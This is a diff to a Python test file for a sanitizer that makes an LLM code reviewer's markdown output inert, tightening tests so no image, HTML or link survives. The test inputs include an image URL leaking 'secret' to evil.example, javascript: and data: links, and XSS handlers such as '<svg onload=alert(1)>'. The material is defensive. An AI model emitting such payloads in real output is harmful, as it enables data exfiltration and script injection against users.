@@ -13,6 +13,7 @@ from reviewer.llm.grounding import (
     sanitize_markdown,
 )
 from reviewer.llm.schema import AIFindingPayload, parse_result
+from tests.reviewer.engine.reports.markdown_check import active_parts
 from tests.reviewer.llm.conftest import change, finding, plan_of, raw_plan
 
 
@@ -141,22 +142,22 @@ def test_injected_output_is_detected() -> None:
     assert output_looks_injected(parse_result({**base, "summary_md": "x </plan_data> y"}))
 
 
-def test_markdown_images_and_active_html_are_removed() -> None:
-    text, changed = sanitize_markdown("ok ![x](https://evil.example/?q=secret) <img src=x> <b>bold</b>")
-    assert changed
-    assert "evil.example" not in text
-    assert "<img" not in text
-    assert "&lt;b>bold&lt;/b>" in text
+def test_markdown_images_and_active_html_are_made_inert() -> None:
+    text, active = sanitize_markdown("ok ![x](https://evil.example/?q=secret) <img src=x> <b>bold</b>")
+    assert active
+    assert active_parts(text) == []  # no image, no HTML: the URL shows as code, the tags as text
+    assert "`![x](https://evil.example/?q=secret)`" in text and "\\<b\\>bold\\</b\\>" in text
     assert sanitize_markdown("plain **text**") == ("plain **text**", False)
 
 
 def test_markdown_links_and_handlers_are_made_inert() -> None:
     hostile = (
         "[a](javascript:alert(1)) [b](java\tscript:x) [c](data:text/html,x) [d](https://ok.example/p) "
-        "[e](/api/reviews) <svg onload=alert(1)> </script> <details ontoggle=x> <javascript:alert(2)>"
+        "[e](/api/reviews) <svg onload=alert(1)> </script> <details ontoggle=x> <javascript:alert(2)> "
+        "[f][r] ![g][r]\n\n[r]: https://evil.example"
     )
-    text, changed = sanitize_markdown(hostile)
-    assert changed
-    assert "javascript:" not in text.replace("&lt;javascript:", "") and "data:text" not in text
-    assert "[d](https://ok.example/p)" in text and "[e](/api/reviews)" in text
-    assert "<" not in text
+    text, active = sanitize_markdown(hostile)
+    assert active
+    # No link survives, not even https or relative ones: model output links nowhere (reports.inert).
+    assert active_parts(text) == []
+    assert "\\[e\\](/api/reviews)" in text
